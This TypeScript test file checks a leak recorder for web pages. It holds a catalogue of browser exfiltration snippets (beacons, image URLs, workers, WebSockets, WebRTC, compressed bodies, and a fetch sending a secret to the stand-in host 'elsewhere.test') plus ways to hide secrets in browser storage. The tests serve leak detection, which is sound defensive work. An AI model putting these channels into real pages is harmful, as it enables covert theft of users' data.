// The recorder is itself tested: a page that leaks on purpose is caught on every channel, a silent one is not.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { freshText } from '../support/canary.ts';
import { expect, test } from '../support/fixtures.ts';
import { sendByWebRtc } from '../support/leaky-wallet.ts';
import { leaksInResidue, leaksInStorage, leaksInTraffic } from '../support/leaks.ts';

const CHANNELS: Record<string, (secret: string) => string> = {
  'a fetch with base64': (secret) => `await fetch('/take', { method: 'POST', body: btoa('xx' + ${secret}) })`,
  'an image address': (secret) => `new Image().src = '/take?' + encodeURIComponent(${secret})`,
  'a request header': (secret) => `await fetch('/take', { headers: { 'x-y': ${secret} } })`,
  'a beacon': (secret) => `navigator.sendBeacon('/take', ${secret})`,
  'another origin': (secret) => `await fetch(OTHER + '/take', { method: 'POST', mode: 'no-cors', body: ${secret} })`,
  'another host': (secret) => `await fetch('http://elsewhere.test/' + ${secret}, { mode: 'no-cors' }).catch(() => {})`,
  'a compressed body': (secret) =>
    `await fetch('/take', { method: 'POST', body: await new Response(new Blob([${secret}]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer() })`,
  'a worker': (secret) =>
    `new Worker(URL.createObjectURL(new Blob(['fetch("' + location.origin + '/take", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(${secret}) + ' })'])))`,
  'a frame': (secret) => `document.body.append(Object.assign(document.createElement('iframe'), { src: '/take?' + ${secret} }))`,
  'a form': (secret) =>
    `const form = document.createElement('form'); form.action = '/take'; form.method = 'post'; form.innerHTML = '<input name=a>'; form.a.value = ${secret}; document.body.append(form); form.submit()`,
  'a navigation': (secret) => `location.href = '/take?' + ${secret}`,
  'a fragment': (secret) => `location.href = OTHER + '/#' + ${secret}`,
  'a WebSocket': (secret) =>
    `const socket = new WebSocket(location.origin.replace('http', 'ws') + '/take?' + ${secret})`,
};

const REMAINS: Record<string, (secret: string) => string> = {
  localStorage: (secret) => `localStorage.setItem('a', ${secret})`,
  sessionStorage: (secret) => `sessionStorage.setItem('a', [...${secret}].reverse().join(''))`,
  IndexedDB: (secret) => `await new Promise((done) => {
    const open = indexedDB.open('d', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s');
    open.onsuccess = () => {
      const change = open.result.transaction('s', 'readwrite');
      change.objectStore('s').put({ deep: [new TextEncoder().encode(${secret})] }, 1);
      change.oncomplete = () => { open.result.close(); done(); };
    };
  })`,
  'the Cache API': (secret) => `await (await caches.open('c')).put('/x', new Response(${secret}))`,
  'a cookie': (secret) => `document.cookie = 'a=' + ${secret}`,
  history: (secret) => `history.pushState(null, '', '/?' + ${secret})`,
  'history.state': (secret) => `history.pushState({ a: ${secret} }, '')`,
  'window.name': (secret) => `window.name = ${secret}`,
};

let servers: Server[] = [];
let origins: string[] = [];

test.beforeAll(async () => {
  servers = await Promise.all(
    [0, 1].map(
      () =>
        new Promise<Server>((resolve) => {
          const server = createServer((request, response) => {
            request.resume();
            response.setHeader('content-type', 'text/html').end('<!doctype html><title>leaky</title><body>');
          });
          server.listen(0, '127.0.0.1', () => resolve(server));
        }),
    ),
  );
  origins = servers.map((server) => `http://localhost:${(server.address() as AddressInfo).port}`);
});

test.afterAll(() => {
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
});

const script = (body: string, secret: string) =>
  `(async () => { const OTHER = ${JSON.stringify(origins[1])}; const S = ${JSON.stringify(secret)}; ${body} })()`;

for (const [channel, leak] of Object.entries(CHANNELS)) {
  test(`catches a leak through ${channel}`, async ({ page, traffic }) => {
    const secret = freshText();
    await page.goto(`${origins[0]}/`);
    const mark = traffic.mark();
    await page.evaluate(script(leak('S'), secret)).catch(() => undefined);
    await expect
      .poll(() => leaksInTraffic(traffic.since(mark), [{ name: 'secret', text: secret }]).length)
      .toBeGreaterThan(0);
  });
}

test('catches a leak through WebRTC', async ({ page, traffic }) => {
  const secret = freshText();
  await page.goto(`${origins[0]}/`);
  await page.evaluate(`(${sendByWebRtc})(window, ${traffic.udpPort}, ${JSON.stringify(secret)})`);
  const caught = () => leaksInTraffic(traffic.sent, [{ name: 'secret', text: secret }]);
  await expect.poll(() => caught().some(({ where }) => where.startsWith('udp'))).toBe(true);
});

for (const [place, leak] of Object.entries(REMAINS)) {
  test(`catches a secret left in ${place}`, async ({ page }) => {
    const secret = freshText();
    await page.goto(`${origins[0]}/`);
    await page.evaluate(script(leak('S'), secret));
    expect(await leaksInStorage(page, [{ name: 'secret', text: secret }])).not.toEqual([]);
  });
}

test('catches a secret on the console, in a message or inside an object', async ({ page, spoken }) => {
  const secret = freshText();
  await page.goto(`${origins[0]}/`);
  await page.evaluate(script('console.debug({ deep: { a: S } })', secret));
  await expect.poll(() => leaksInResidue(spoken, [{ name: 'secret', text: secret }]).length).toBeGreaterThan(0);
});

test('a page that keeps its secret is not accused', async ({ page, traffic, spoken }) => {
  const canaries = [{ name: 'secret', text: freshText() }];
  await page.goto(`${origins[0]}/`);
  await page.evaluate(script("await fetch('/take', { method: 'POST', body: 'nothing' }); localStorage.a = 1; console.log('fine')", 'unused'));
  expect(traffic.sent.some(({ method, witness }) => method === 'POST' && witness === 'proxy')).toBe(true);
  expect(leaksInTraffic(traffic.sent, canaries)).toEqual([]);
  expect(await leaksInStorage(page, canaries)).toEqual([]);
  expect(leaksInResidue(spoken, canaries)).toEqual([]);
});

test('hosts outside this machine are refused and named', async ({ page, traffic }) => {
  await page.goto(`${origins[0]}/`);
  await page.evaluate(
    "Promise.allSettled([fetch('http://elsewhere.test/'), fetch('https://elsewhere.test/')]).then(() => undefined)",
  );
  expect(traffic.refused).toEqual(expect.arrayContaining(['elsewhere.test', 'elsewhere.test:443']));
});
